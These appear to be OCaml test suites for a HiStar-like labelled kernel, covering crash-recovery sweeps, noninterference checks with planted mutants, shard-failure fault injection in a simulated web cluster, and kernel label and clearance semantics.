      (cells - cells0);
    Alcotest.(check bool) "throughput is measurable" true
      (Crash_sweep.cells_per_sec r > 0.0)
  end

(* The >= 10x wall-clock claim. CPU-time ratios on shared CI runners
   are noisy, so this only runs when explicitly requested
   (HISTAR_CHECK_SPEEDUP=1, set by the snapshot-smoke CI job). *)
let test_fork_speedup () =
  if Stdlib.Sys.getenv_opt "HISTAR_CHECK_SPEEDUP" <> Some "1" then ()
  else begin
    (* A longer run sharpens the asymptotics: replay pays the whole
       prefix per cell, fork pays only the recovery check. *)
    let w = Workloads.store ~nops:300 () in
    let fork = Crash_sweep.sweep ~max_points:64 ~mode:`Fork w in
    let replay = Crash_sweep.sweep ~max_points:64 ~mode:`Replay w in
    let ratio =
      Crash_sweep.cells_per_sec fork /. Crash_sweep.cells_per_sec replay
    in
    Format.printf "fork %.0f cells/s, replay %.0f cells/s (%.1fx)@."
      (Crash_sweep.cells_per_sec fork)
      (Crash_sweep.cells_per_sec replay)
      ratio;
    if ratio < 10.0 then
      Alcotest.fail
        (Printf.sprintf "fork-based sweep only %.1fx faster than replay"
           ratio)
  end

(* ---------- injected regression is caught ---------- *)

let broken_wal_workload () =
    {
      Crash_sweep.name = "wal-noreplay";
      mk =
        (fun seed ->
          let clock = Sim_clock.create () in
          let disk = Disk.create ~clock () in
          let committed = ref 0 in
          let run () =
            ignore seed;
            let wal = Wal.format ~disk ~start:1 ~sectors:64 in
            for _ = 1 to 3 do
              Wal.append wal "record";
              Wal.commit wal;
              incr committed
            done
          in
          let check ~crashed disk =
            match Wal.recover ~disk ~start:1 ~sectors:64 with
            | exception _ -> ()
            | _, recovered ->
                (* regression under test: the crash-recovery path drops
                   every record instead of replaying the prefix *)
                let replayed = if crashed then 0 else List.length recovered in
                if replayed < !committed then
                  failwith
                    (Printf.sprintf "%d committed records lost" !committed)
          in
          let snapshot () =
            let c = !committed in
            fun () -> committed := c
          in
          { Crash_sweep.disk; run; check; snapshot = Some snapshot });
    }

(* A "recovery" that skips WAL replay: it formats and commits like the
   real WAL workload but validates against a recovery that drops every
   record. The sweep must catch this at some crash index and print a
   replayable report — and the fork-based and replay-based sweeps must
   print the {e same} report, since they check identical media.
   Skipped when a replay filter targets a different workload, since
   the sweep then visits no crash points. *)
let catch_broken mode =
  match Crash_sweep.sweep ~max_points:16 ~mode (broken_wal_workload ()) with
  | _ -> Alcotest.fail "injected WAL-replay regression was not caught"
  | exception Check.Falsified msg ->
      check_mentions msg
        [
          "crash index";
          "HISTAR_CHECK_SEED=";
          "HISTAR_CHECK_WORKLOAD=wal-noreplay";
          "HISTAR_CHECK_CRASH_INDEX=";
          "records lost";
        ];
      msg

let test_injected_regression_caught () =
  if replaying () then ()
  else
    let by_fork = catch_broken `Fork in
    let by_replay = catch_broken `Replay in
    Alcotest.(check string) "fork and replay report identically" by_replay
      by_fork

(* ---------- noninterference twins ---------- *)

(* The property itself, through the shrinking engine: any divergence
   found here comes back as a minimal program with a replay line. *)
let test_ni_property =
  Check.test_case ~count:60 ~max_size:12 ~print:Ni.pp_prog
    "twin traces low-equivalent" Ni.gen_prog Ni.prop

(* The acceptance sweep: >= 500 clean twin pairs at the pinned seed,
   and the whole harness bit-identical when run twice. Nightly CI sets
   HISTAR_CHECK_LONG=1 (with a date-seeded HISTAR_CHECK_SEED) to run a
   larger schedule. *)
let ni_count () =
  if Stdlib.Sys.getenv_opt "HISTAR_CHECK_LONG" = Some "1" then 2000 else 500

let test_ni_suite_deterministic () =
  let count = ni_count () in
  let seed = Check.seed () in
  let n1, d1 = Ni.suite_digest ~count ~seed () in
  let n2, d2 = Ni.suite_digest ~count ~seed () in
  Alcotest.(check int) "clean twin pairs" count n1;
  Alcotest.(check int) "same pair count" n1 n2;
  Alcotest.(check string) "double harness run bit-identical" d1 d2

(* Committed witness programs for the two planted library-level leaks:
   each must diverge under its weaken switch and stay clean on the
   unweakened library — the LIO analogue of PR-4's regression traces. *)
let ni_witness_tolabeled =
  [
    Ni.S_write_high (0, "a");
    Ni.S_to_labeled_low [ Ni.S_read_high 0 ];
    Ni.S_unlabel_last;
    Ni.S_write_low_reg 0;
  ]

let ni_witness_catch =
  [
    Ni.S_write_high (0, "a");
    Ni.S_catch ([ Ni.S_throw_if_odd 0 ], [ Ni.S_write_low (0, "caught") ]);
  ]

let ni_witness name weaken prog () =
  let a, b = Ni.check_twins ~weaken prog in
  if List.equal String.equal a b then
    Alcotest.fail
      (Printf.sprintf "%s: witness %s no longer diverges under %s" name
         (Ni.pp_prog prog) (Lio.weaken_to_string weaken));
  (* the unweakened library conforms on the very same program *)
  Ni.prop prog

(* The generated schedule must also expose both mutants within a
   bounded budget (catch indices recorded in EXPERIMENTS.md). *)
let ni_mutant name weaken () =
  match Ni.catch_index ~weaken ~budget:500 () with
  | Some (_, _) -> ()
  | None ->
      Alcotest.fail
        (Printf.sprintf "%s survived 500 twin pairs of the pinned schedule"
           name)

(* Allocation-order perturbation: twin A throws before the two high
   allocations, twin B performs both, so every oid allocated after the
   block differs between the twins — including the low-visible scope
   gates of the subsequent to_labeled_low. Only the canonical
   (descrip, first-appearance) naming keeps the projections equal. *)
let ni_perturbation () =
  let prog =
    [
      Ni.S_write_high (0, "a");
      Ni.S_to_labeled_high
        [ Ni.S_throw_if_odd 0; Ni.S_alloc_high; Ni.S_alloc_high ];
      Ni.S_to_labeled_low [ Ni.S_read_low 0 ];
      Ni.S_write_low (1, "z");
    ]
  in
  let a, b = Ni.check_twins prog in
  if not (List.equal String.equal a b) then
    Alcotest.fail "projection not invariant under oid-stream perturbation";
  if not (List.exists (fun l -> contains ~needle:"low1" l) a) then
    Alcotest.fail "projection lost the low write after the perturbed block"

(* ---------- lib/lio vs Mlio reference differential ---------- *)

let test_lio_model_diff =
  Check.test_case ~count:200 ~max_size:10 ~print:Ni.pp_lops
    "lio clearance semantics match Mlio" Ni.gen_lops Ni.prop_lio_model_diff

(* ---------- domain-count identity ----------

   The lib/par acceptance contract: every harness output — fuzz stats
   and reports, twin digests, catch indices, falsification messages —
   must be byte-identical at every domain count, double runs included.
   [~domains] is passed explicitly so these hold regardless of the
   ambient HISTAR_DOMAINS. *)

module Conf = Histar_check.Conformance

let test_fuzz_domain_identity () =
  let run d = Conf.run_fuzz ~domains:d ~runs:300 ~seed:Check.default_seed () in
  let s1 = run 1 in
  List.iter
    (fun d ->
      let s = run d in
      Alcotest.(check bool)
        (Printf.sprintf "fuzz stats identical at %d domains" d)
        true (s = s1);
      Alcotest.(check string)
        (Printf.sprintf "fuzz report identical at %d domains" d)
        (Conf.report s1) (Conf.report s))
    [ 2; 8 ];
  Alcotest.(check bool) "double run at 8 domains" true (run 8 = run 8)

let test_fuzz_many_domain_identity () =
  let run d =
    Conf.run_fuzz_many ~domains:d ~runs:80 ~passes:4 ~seed:Check.default_seed
      ()
  in
  let m1 = run 1 in
  Alcotest.(check int) "one stats record per pass" 4 (List.length m1);
  List.iter
    (fun s ->
      if s.Conf.fs_divergence <> None then
        Alcotest.fail "clean kernel diverged in a split-seed pass")
    m1;
  Alcotest.(check bool) "split-seed passes identical at 8 domains" true
    (run 8 = m1)

let test_ni_domain_identity () =
  let digest d =
    Ni.suite_digest ~domains:d ~count:120 ~seed:Check.default_seed ()
  in
  let d1 = digest 1 in
  List.iter
    (fun d ->
      Alcotest.(check bool)
        (Printf.sprintf "twin digest identical at %d domains" d)
        true (digest d = d1))
    [ 2; 8 ];
  List.iter
    (fun weaken ->
      let catch d = Ni.catch_index ~domains:d ~weaken ~budget:500 () in
      match (catch 1, catch 8) with
      | Some (i1, p1), Some (i8, p8) ->
          Alcotest.(check int)
            (Lio.weaken_to_string weaken ^ ": same catch index")
            i1 i8;
          Alcotest.(check bool) "same witness program" true (p1 = p8)
      | _ ->
          Alcotest.fail
            (Lio.weaken_to_string weaken
           ^ " not caught at some domain count"))
    [ Lio.Weaken_toLabeled_result; Lio.Weaken_lio_catch ]

let test_sweep_domain_identity () =
  if replaying () then ()
  else
    let catch d mode =
      match
        Crash_sweep.sweep ~domains:d ~max_points:16 ~mode
          (broken_wal_workload ())
      with
      | _ -> Alcotest.fail "injected regression not caught"
      | exception Check.Falsified msg -> msg
    in
    List.iter
      (fun mode ->
        let m1 = catch 1 mode in
        List.iter
          (fun d ->
            Alcotest.(check string)
              (Printf.sprintf "%s falsification identical at %d domains"
                 (Crash_sweep.mode_string mode) d)
              m1 (catch d mode))
          [ 2; 8 ])
      [ `Fork; `Replay ]

let () =
  Alcotest.run "histar_check"
    [
      ( "engine",
        [
          Alcotest.test_case "deterministic" `Quick test_generate_deterministic;
          Alcotest.test_case "shrink int" `Quick test_shrink_int_to_boundary;
          Alcotest.test_case "shrink list" `Quick test_shrink_list_to_minimal;
          Alcotest.test_case "shrink in range" `Quick
            test_shrink_respects_invariant;
          Alcotest.test_case "replayable report" `Quick
            test_run_reports_replay_seed;
        ] );
      ( "crash sweep",
        [
          sweep_test ~max_points:24 (Workloads.wal ());
          sweep_test ~max_points:24 (Workloads.store ());
          sweep_test ~max_points:16 (Workloads.fs ());
          Alcotest.test_case "coverage" `Quick test_coverage;
          Alcotest.test_case "injected regression caught" `Quick
            test_injected_regression_caught;
        ] );
      ( "fork vs replay",
        [
          Alcotest.test_case "recovery metrics byte-identical" `Quick
            test_fork_replay_recovery_identical;
          Alcotest.test_case "cells counter and throughput" `Quick
            test_cells_counter_and_throughput;
          Alcotest.test_case "fork sweep >= 10x (HISTAR_CHECK_SPEEDUP=1)"
            `Quick test_fork_speedup;
        ] );
      ( "noninterference",
        [
          test_ni_property;
          Alcotest.test_case "500 clean twin pairs, bit-identical reruns"
            `Quick test_ni_suite_deterministic;
          Alcotest.test_case "witness: to_labeled result leak" `Quick
            (ni_witness "to_labeled" Lio.Weaken_toLabeled_result
               ni_witness_tolabeled);
          Alcotest.test_case "witness: catch label leak" `Quick
            (ni_witness "catch" Lio.Weaken_lio_catch ni_witness_catch);
          Alcotest.test_case "mutant caught: Weaken_toLabeled_result" `Quick
            (ni_mutant "Weaken_toLabeled_result" Lio.Weaken_toLabeled_result);
          Alcotest.test_case "mutant caught: Weaken_lio_catch" `Quick
            (ni_mutant "Weaken_lio_catch" Lio.Weaken_lio_catch);
          Alcotest.test_case "projection invariant under oid perturbation"
            `Quick ni_perturbation;
          test_lio_model_diff;
        ] );
      ( "domain identity",
        [
          Alcotest.test_case "fuzz stats and report" `Quick
            test_fuzz_domain_identity;
          Alcotest.test_case "split-seed fuzz passes" `Quick
            test_fuzz_many_domain_identity;
          Alcotest.test_case "twin digest and catch indices" `Quick
            test_ni_domain_identity;
          Alcotest.test_case "crash-sweep falsification" `Quick
            test_sweep_domain_identity;
        ] );
    ]
