(* Shard-death acceptance cell: the sharded web cluster under a
   combined disk + net + crash schedule.

   One replayable [HISTAR_FAULTS]-style schedule kills a db shard at a
   virtual millisecond mid-load and restarts it from its own store.
   The drill must show, in one run:

   - the cluster keeps serving: users on surviving shards are never
     refused, users on the dead shard are *refused* (transport error
     or backoff), never mis-admitted, and never shown anyone else's
     record;
   - packet capture on both hubs sees zero record plaintext;
   - the restarted shard recovers from its own WAL/checkpoint, passes
     fsck, and re-enters rotation — a final batch serves everyone;
   - the whole run, fault decisions included, is byte-for-byte
     reproducible: two fresh runs produce identical outcome + metric
     digests.  A divergence prints the HISTAR_FAULTS line that
     replays it.

   Plus the rebalance discipline: a draining arc refuses admission
   (never mis-routes) until the handoff commits, and a committed
   rebalance moves the user's record to the target shard intact. *)

module Webcluster = Histar_apps.Webcluster
module Cluster = Histar_dist.Cluster
module Ring = Histar_dist.Ring
module Faults = Histar_faults.Faults
module Schedule = Faults.Schedule
module Hub = Histar_net.Hub
module Store = Histar_store.Store
module Metrics = Histar_metrics.Metrics

let contains_sub hay needle =
  let nh = String.length hay and nn = String.length needle in
  let rec go i = i + nn <= nh && (String.sub hay i nn = needle || go (i + 1)) in
  nn = 0 || go 0

let with_metrics f =
  let was_enabled = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect ~finally:(fun () -> Metrics.set_enabled was_enabled) f

(* The acceptance schedule.  Timing is on the global virtual axis:
   provisioning runs the clocks to ~42ms, the 32-request batch spans
   roughly 42–190ms, so kill-at-60 / restart-at-100 lands the whole
   death + recovery inside the measured window.  Node 3 is shard 0
   (balancer = 0, apps = 1..2, shards = 3..4), asserted below rather
   than trusted. *)
let acceptance_schedule =
  Schedule.mk ~seed:0x5AD0FF5EL
    ~disk:
      {
        Schedule.latent_rate = 0.005;
        transient_rate = 0.01;
        corrupt_rate = 0.001;
      }
    ~net:
      {
        Schedule.loss_rate = 0.01;
        corrupt_rate = 0.0;
        duplicate_rate = 0.005;
        reorder_rate = 0.0;
        reorder_depth = 0;
        jitter_us = 50;
        flap_period_ms = 0;
        flap_down_ms = 0;
      }
    ~crashes:
      [ { Schedule.crash_node = 3; at_ms = 60; restart_after_ms = Some 40 } ]
    ()

type cell = {
  c_refused : int;  (* batch-1 requests answered without the record *)
  c_digest : string;  (* outcomes + served + nonzero metrics *)
}

let run_cell () =
  Metrics.reset ();
  let wc =
    Webcluster.build ~app_nodes:2 ~db_shards:2 ~user_count:4 ~work_us:5_000
      ~cooldown_ms:20 ~faults:acceptance_schedule ()
  in
  Alcotest.(check int)
    "crash plan targets shard 0's node id" 3
    (Webcluster.shard_node_id wc 0);
  let victims = Webcluster.shard_users wc 0 in
  Alcotest.(check bool) "the doomed shard owns at least one user" true
    (victims <> []);
  Alcotest.(check bool) "and not all of them" true
    (List.length victims < Array.length (Webcluster.users wc));
  let front_cap = Buffer.create 4096 and back_cap = Buffer.create 4096 in
  Hub.set_tap (Webcluster.front_hub wc)
    (Some (Buffer.add_string front_cap));
  Hub.set_tap (Webcluster.back_hub wc) (Some (Buffer.add_string back_cap));
  let users = Webcluster.users wc in
  let mk_batch n =
    Array.init n (fun i ->
        let u, p = users.(i mod Array.length users) in
        (u, p, u))
  in
  let all_secrets = Array.map (fun (u, _) -> Webcluster.secret_of wc u) users in
  (* A reply either carries exactly the caller's own record, or is a
     refusal that carries nobody's. *)
  let audit tag outcomes =
    let refused = ref 0 in
    Array.iter
      (fun o ->
        let own = Webcluster.secret_of wc o.Webcluster.o_user in
        if not (contains_sub o.Webcluster.o_reply own) then begin
          incr refused;
          Alcotest.(check bool)
            (Printf.sprintf "%s: refusal is an ERR/REFUSED (%s)" tag
               o.Webcluster.o_reply)
            true
            (contains_sub o.Webcluster.o_reply "ERR"
            || contains_sub o.Webcluster.o_reply "REFUSED")
        end;
        Array.iteri
          (fun i s ->
            if fst users.(i) <> o.Webcluster.o_user then
              Alcotest.(check bool)
                (Printf.sprintf "%s: no cross-user record in a reply" tag)
                false
                (contains_sub o.Webcluster.o_reply s))
          all_secrets)
      outcomes;
    !refused
  in
  (* Batch 1 brackets the kill and the restart. *)
  let finished, outcomes = Webcluster.run_load wc ~concurrency:8 (mk_batch 32) in
  Alcotest.(check bool) "kill batch completed" true finished;
  let refused = audit "kill batch" outcomes in
  Alcotest.(check bool) "the kill refused someone" true (refused > 0);
  (* Survivors were never refused: every refusal names a victim. *)
  Array.iter
    (fun o ->
      if
        not
          (contains_sub o.Webcluster.o_reply
             (Webcluster.secret_of wc o.Webcluster.o_user))
      then
        Alcotest.(check bool)
          (Printf.sprintf "refusal hit a user of the dead shard (%s)"
             o.Webcluster.o_user)
          true
          (List.mem o.Webcluster.o_user victims))
    outcomes;
  Alcotest.(check int) "schedule killed exactly once" 1
    (Metrics.counter_value "faults.node_kills");
  Alcotest.(check int) "and restarted exactly once" 1
    (Metrics.counter_value "faults.node_restarts");
  Alcotest.(check int) "shard kill observed" 1
    (Metrics.counter_value "webcluster.shard_kills");
  Alcotest.(check int) "store-based recovery observed" 1
    (Metrics.counter_value "webcluster.shard_recoveries");
  Alcotest.(check bool) "recovery replayed the shard's own store" true
    (Metrics.counter_value "store.recoveries" > 0);
  (* The shard is back, and its recovered store proves tiling. *)
  Alcotest.(check bool) "shard 0 alive again" true (Webcluster.shard_alive wc 0);
  Store.fsck (Webcluster.shard_store wc 0);
  (* Batch 2: everyone is served again, victims included. *)
  let finished, outcomes = Webcluster.run_load wc ~concurrency:8 (mk_batch 16) in
  Alcotest.(check bool) "post-recovery batch completed" true finished;
  Alcotest.(check int) "post-recovery batch serves every user" 0
    (audit "post-recovery" outcomes);
  (* Zero record plaintext on either wire, while the taps demonstrably
     saw the traffic. *)
  Alcotest.(check bool) "taps captured traffic" true
    (Buffer.length front_cap > 0 && Buffer.length back_cap > 0);
  Array.iter
    (fun s ->
      Alcotest.(check bool) "no record plaintext on the front hub" false
        (contains_sub (Buffer.contents front_cap) s);
      Alcotest.(check bool) "no record plaintext on the backbone" false
        (contains_sub (Buffer.contents back_cap) s))
    all_secrets;
  Hub.set_tap (Webcluster.front_hub wc) None;
  Hub.set_tap (Webcluster.back_hub wc) None;
  let digest =
    String.concat "|"
      (Array.to_list
         (Array.map
            (fun o -> o.Webcluster.o_user ^ ":" ^ o.Webcluster.o_reply)
            outcomes))
    ^ Printf.sprintf "|served=%s|metrics=%s"
        (String.concat ","
           (Array.to_list (Array.map string_of_int (Webcluster.served wc))))
        (String.concat ";"
           (List.filter_map
              (fun (k, v) ->
                if v = 0 then None else Some (Printf.sprintf "%s=%d" k v))
              (Metrics.snapshot ())))
  in
  { c_refused = refused; c_digest = digest }

let test_shard_death_cell () = with_metrics @@ fun () -> ignore (run_cell ())

let test_shard_death_reproducible () =
  with_metrics @@ fun () ->
  let a = run_cell () in
  let b = run_cell () in
  if not (String.equal a.c_digest b.c_digest) then
    Printf.printf "HISTAR_FAULTS=%s replays this divergence\n%!"
      (Schedule.to_string acceptance_schedule);
  Alcotest.(check string) "two runs, bit for bit" a.c_digest b.c_digest;
  Alcotest.(check int) "same refusal count" a.c_refused b.c_refused

(* A draining arc refuses admission — the request is either served by
   the shard that provably owns the user's category, or refused; it is
   never answered by a node whose export trust is in flux — and a
   committed rebalance moves the record intact. *)
let test_handoff_refusal_and_rebalance () =
  with_metrics @@ fun () ->
  let wc = Webcluster.build ~app_nodes:2 ~db_shards:2 ~user_count:4 () in
  let users = Webcluster.users wc in
  let batch = Array.map (fun (u, p) -> (u, p, u)) users in
  let check_served tag outcomes =
    Array.iter
      (fun o ->
        Alcotest.(check bool)
          (Printf.sprintf "%s: %s served (%s)" tag o.Webcluster.o_user
             o.Webcluster.o_reply)
          true
          (contains_sub o.Webcluster.o_reply
             (Webcluster.secret_of wc o.Webcluster.o_user)))
      outcomes
  in
  let finished, outcomes = Webcluster.run_load wc batch in
  Alcotest.(check bool) "baseline completed" true finished;
  check_served "baseline" outcomes;
  let mover, _ = users.(0) in
  let src = Option.get (Webcluster.shard_of_user wc mover) in
  let dst = 1 - src in
  (* Mark the arc draining by hand (what rebalance does internally) to
     hold the refusal window open across a whole batch. *)
  (match
     Ring.begin_handoff (Webcluster.ring wc) ~key:("user:" ^ mover)
       ~target:(Webcluster.shard_node_id wc dst)
   with
  | Ok () -> ()
  | Error e -> Alcotest.fail e);
  let refusals_before = Webcluster.handoff_refusals wc in
  let finished, outcomes = Webcluster.run_load wc batch in
  Alcotest.(check bool) "draining batch completed" true finished;
  Array.iter
    (fun o ->
      if o.Webcluster.o_user = mover then begin
        Alcotest.(check bool)
          ("draining arc refuses: " ^ o.Webcluster.o_reply)
          true
          (contains_sub o.Webcluster.o_reply "REFUSED");
        Array.iter
          (fun (u, _) ->
            Alcotest.(check bool) "refusal carries no record" false
              (contains_sub o.Webcluster.o_reply (Webcluster.secret_of wc u)))
          users
      end
      else check_served "draining bystander" [| o |])
    outcomes;
  Alcotest.(check bool) "refusals counted" true
    (Webcluster.handoff_refusals wc > refusals_before);
  (match Ring.abort_handoff (Webcluster.ring wc) ~key:("user:" ^ mover) with
  | Ok () -> ()
  | Error e -> Alcotest.fail e);
  (* The real migration: record and category move to the live target,
     admission refused only inside the internal window. *)
  (match Webcluster.rebalance_user wc ~user:mover ~to_shard:dst with
  | Ok () -> ()
  | Error e -> Alcotest.fail ("rebalance: " ^ e));
  Alcotest.(check (option int))
    "arc ownership moved" (Some dst)
    (Webcluster.shard_of_user wc mover);
  Alcotest.(check bool) "rebalance counted" true
    (Metrics.counter_value "webcluster.rebalances" > 0);
  let finished, outcomes = Webcluster.run_load wc batch in
  Alcotest.(check bool) "post-rebalance batch completed" true finished;
  check_served "post-rebalance" outcomes

let () =
  Alcotest.run "dist-faults"
    [
      ( "shard-death",
        [
          Alcotest.test_case "combined-schedule kill/recover cell" `Quick
            test_shard_death_cell;
          Alcotest.test_case "byte-for-byte reproducible" `Quick
            test_shard_death_reproducible;
        ] );
      ( "rebalance",
        [
          Alcotest.test_case "refused during handoff, served after" `Quick
            test_handoff_refusal_and_rebalance;
        ] );
    ]
