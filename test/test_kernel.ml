module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
module Types = Histar_core.Types
module Syscall = Histar_core.Syscall
open Histar_label
open Types

let l entries d = Label.of_list entries d
let l1 = Label.make Level.L1
let l2 = Label.make Level.L2

(* Run [f] as the initial thread of a fresh kernel and return its result;
   raises if the thread crashed or deadlocked. *)
let in_kernel ?label ?clearance f =
  let k = Kernel.create () in
  let result = ref None in
  let _tid =
    Kernel.spawn k ?label ?clearance ~name:"test" (fun () ->
        result := Some (f (Kernel.root k)))
  in
  Kernel.run k;
  match !result with
  | Some v -> v
  | None -> Alcotest.fail "test thread did not complete"

let in_kernel_k ?label ?clearance f =
  let k = Kernel.create () in
  let result = ref None in
  let _tid =
    Kernel.spawn k ?label ?clearance ~name:"test" (fun () ->
        result := Some (f k (Kernel.root k)))
  in
  Kernel.run k;
  match !result with
  | Some v -> v
  | None -> Alcotest.fail "test thread did not complete"

let expect_label_error f =
  match f () with
  | _ -> Alcotest.fail "expected Label_check error"
  | exception Kernel_error (Label_check _) -> ()

let expect_error f =
  match f () with
  | _ -> Alcotest.fail "expected kernel error"
  | exception Kernel_error _ -> ()

(* Yield until [pred] holds (children run between our slices). *)
let join pred =
  let tries = ref 0 in
  while (not (pred ())) && !tries < 10_000 do
    incr tries;
    Sys.yield ()
  done;
  if not (pred ()) then Alcotest.fail "join: condition never became true"

(* ---------- basic lifecycle ---------- *)

let test_spawn_runs () =
  let v = in_kernel (fun _root -> 41 + 1) in
  Alcotest.(check int) "thread ran" 42 v

let test_self_label_default () =
  let lbl, clr = in_kernel (fun _ -> (Sys.self_label (), Sys.self_clearance ())) in
  Alcotest.(check bool) "label {1}" true (Label.equal lbl l1);
  Alcotest.(check bool) "clearance {2}" true (Label.equal clr l2)

let test_cat_create_grants_star () =
  in_kernel (fun _ ->
      let c = Sys.cat_create () in
      let lbl = Sys.self_label () in
      let clr = Sys.self_clearance () in
      Alcotest.(check bool) "owns c" true (Label.owns lbl c);
      Alcotest.(check bool) "clearance 3 in c" true
        (Level.equal (Label.get clr c) Level.L3))

let test_categories_distinct () =
  in_kernel (fun _ ->
      let a = Sys.cat_create () and b = Sys.cat_create () in
      Alcotest.(check bool) "fresh" false (Category.equal a b))

(* ---------- self_set_label / clearance ---------- *)

let test_taint_self_ok () =
  in_kernel (fun _ ->
      let c = Sys.cat_create () in
      ignore c;
      (* raise own label within clearance *)
      let v = Category.of_int 99 in
      ignore v;
      Sys.self_set_label (l [] Level.L2) (* {2} ⊒ {1}, ⊑ clearance {2} *))

let test_cannot_exceed_clearance () =
  in_kernel (fun _ ->
      expect_label_error (fun () -> Sys.self_set_label (Label.make Level.L3)))

let test_cannot_lower_label () =
  in_kernel (fun _ ->
      expect_label_error (fun () ->
          Sys.self_set_label (Label.make Level.L0)))

let test_raise_clearance_owned_only () =
  in_kernel (fun _ ->
      let c = Sys.cat_create () in
      (* owning c lets us raise clearance in other categories? no — only
         up to C_T ⊔ L_T^J. For an unowned category that bound is 2. *)
      ignore c;
      let unowned = Category.of_int 7 in
      expect_label_error (fun () ->
          Sys.self_set_clearance (l [ (unowned, Level.L3) ] Level.L2)))

let test_lower_clearance_ok () =
  in_kernel (fun _ ->
      let c = Sys.cat_create () in
      (* clearance in c is 3; lower it to 2 *)
      Sys.self_set_clearance (l [ (c, Level.L2) ] Level.L2);
      Alcotest.(check bool) "lowered" true
        (Level.equal (Label.get (Sys.self_clearance ()) c) Level.L2))

(* ---------- segments and the fault path ---------- *)

let test_segment_rw () =
  in_kernel (fun root ->
      let seg =
        Sys.segment_create ~container:root ~label:l1 ~quota:8192L ~len:16 "s"
      in
      let ce = centry root seg in
      Sys.segment_write ce "hello";
      Alcotest.(check string) "read back" "hello"
        (Sys.segment_read ce ~len:5 ());
      Alcotest.(check int) "size" 16 (Sys.segment_size ce);
      Sys.segment_resize ce 5;
      Alcotest.(check string) "after shrink" "hello" (Sys.segment_read ce ()))

let test_segment_oob () =
  in_kernel (fun root ->
      let seg =
        Sys.segment_create ~container:root ~label:l1 ~quota:8192L ~len:4 "s"
      in
      let ce = centry root seg in
      expect_error (fun () -> Sys.segment_write ce "too long");
      expect_error (fun () -> Sys.segment_read ce ~off:2 ~len:10 ()))

let test_tainted_segment_unreadable () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      let secret_label = l [ (c, Level.L3) ] Level.L1 in
      let seg =
        Sys.segment_create ~container:root ~label:secret_label ~quota:8192L
          ~len:8 "secret"
      in
      let ce = centry root seg in
      (* owner can read/write despite taint *)
      Sys.segment_write ce "a";
      (* drop ownership by starting an unprivileged thread *)
      let done_ = ref false in
      let _tid =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"reader" (fun () ->
            expect_label_error (fun () -> ignore (Sys.segment_read ce ()));
            expect_label_error (fun () -> Sys.segment_write ce "x");
            done_ := true)
      in
      join (fun () -> !done_))

let test_taint_to_read () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      let seg =
        Sys.segment_create ~container:root
          ~label:(l [ (c, Level.L3) ] Level.L1)
          ~quota:8192L ~len:4 "secret"
      in
      Sys.segment_write (centry root seg) "key!";
      let got = ref "" in
      let _tid =
        Sys.thread_create ~container:root ~label:l1
          ~clearance:(l [ (c, Level.L3) ] Level.L2)
          ~quota:65536L ~name:"tainter" (fun () ->
            (* cannot read untainted *)
            expect_label_error (fun () ->
                ignore (Sys.segment_read (centry root seg) ()));
            (* taint self up to clearance, then read *)
            Sys.self_set_label (l [ (c, Level.L3) ] Level.L1);
            got := Sys.segment_read (centry root seg) ())
      in
      join (fun () -> !got <> "");
      Alcotest.(check string) "read after tainting" "key!" !got)

let test_tainted_thread_cannot_write_down () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      let public =
        Sys.segment_create ~container:root ~label:l1 ~quota:8192L ~len:4 "pub"
      in
      let _tid =
        Sys.thread_create ~container:root
          ~label:(l [ (c, Level.L3) ] Level.L1)
          ~clearance:(l [ (c, Level.L3) ] Level.L2)
          ~quota:65536L ~name:"tainted" (fun () ->
            expect_label_error (fun () ->
                Sys.segment_write (centry root public) "leak"))
      in
      Sys.yield ())

let test_integrity_write_protection () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      (* {c0,1}: cannot be written except by owners of c *)
      let sys_file =
        Sys.segment_create ~container:root
          ~label:(l [ (c, Level.L0) ] Level.L1)
          ~quota:8192L ~len:4 "sysfile"
      in
      Sys.segment_write (centry root sys_file) "ok!!";
      let _tid =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"untrusted" (fun () ->
            (* read allowed, write denied *)
            Alcotest.(check string) "read ok" "ok!!"
              (Sys.segment_read (centry root sys_file) ());
            expect_label_error (fun () ->
                Sys.segment_write (centry root sys_file) "bad!"))
      in
      Sys.yield ())

let test_segment_copy_new_label () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      let seg =
        Sys.segment_create ~container:root ~label:l1 ~quota:8192L ~len:4 "s"
      in
      Sys.segment_write (centry root seg) "data";
      let tainted_label = l [ (c, Level.L3) ] Level.L1 in
      let copy =
        Sys.segment_copy ~src:(centry root seg) ~container:root
          ~label:tainted_label ~quota:8192L "tainted copy"
      in
      Alcotest.(check string) "copy contents" "data"
        (Sys.segment_read (centry root copy) ());
      Alcotest.(check bool) "copy label" true
        (Label.equal (Sys.obj_label (centry root copy)) tainted_label))

let test_immutable () =
  in_kernel (fun root ->
      let seg =
        Sys.segment_create ~container:root ~label:l1 ~quota:8192L ~len:4 "s"
      in
      Sys.set_immutable (centry root seg);
      match Sys.segment_write (centry root seg) "x" with
      | () -> Alcotest.fail "expected Immutable error"
      | exception Kernel_error (Immutable _) -> ())

(* ---------- TLS ---------- *)

let test_tls_per_thread () =
  in_kernel (fun root ->
      Sys.tls_write "parent";
      let child_saw = ref "?" in
      let _tid =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"child" (fun () ->
            Sys.tls_write "child";
            child_saw := Sys.tls_read ())
      in
      join (fun () -> !child_saw <> "?");
      Alcotest.(check string) "child tls" "child" !child_saw;
      Alcotest.(check string) "parent tls intact" "parent" (Sys.tls_read ()))

(* ---------- containers, entries, quotas ---------- *)

let test_container_entries_require_read () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      (* a container only readable when tainted c3 *)
      let hidden =
        Sys.container_create ~container:root
          ~label:(l [ (c, Level.L3) ] Level.L1)
          ~quota:65536L "hidden"
      in
      let seg =
        Sys.segment_create ~container:hidden
          ~label:(l [ (c, Level.L3) ] Level.L1)
          ~quota:8192L ~len:4 "s"
      in
      let _tid =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"outsider" (fun () ->
            (* cannot use a container entry through an unreadable container *)
            expect_label_error (fun () ->
                ignore (Sys.segment_read (centry hidden seg) ())))
      in
      Sys.yield ())

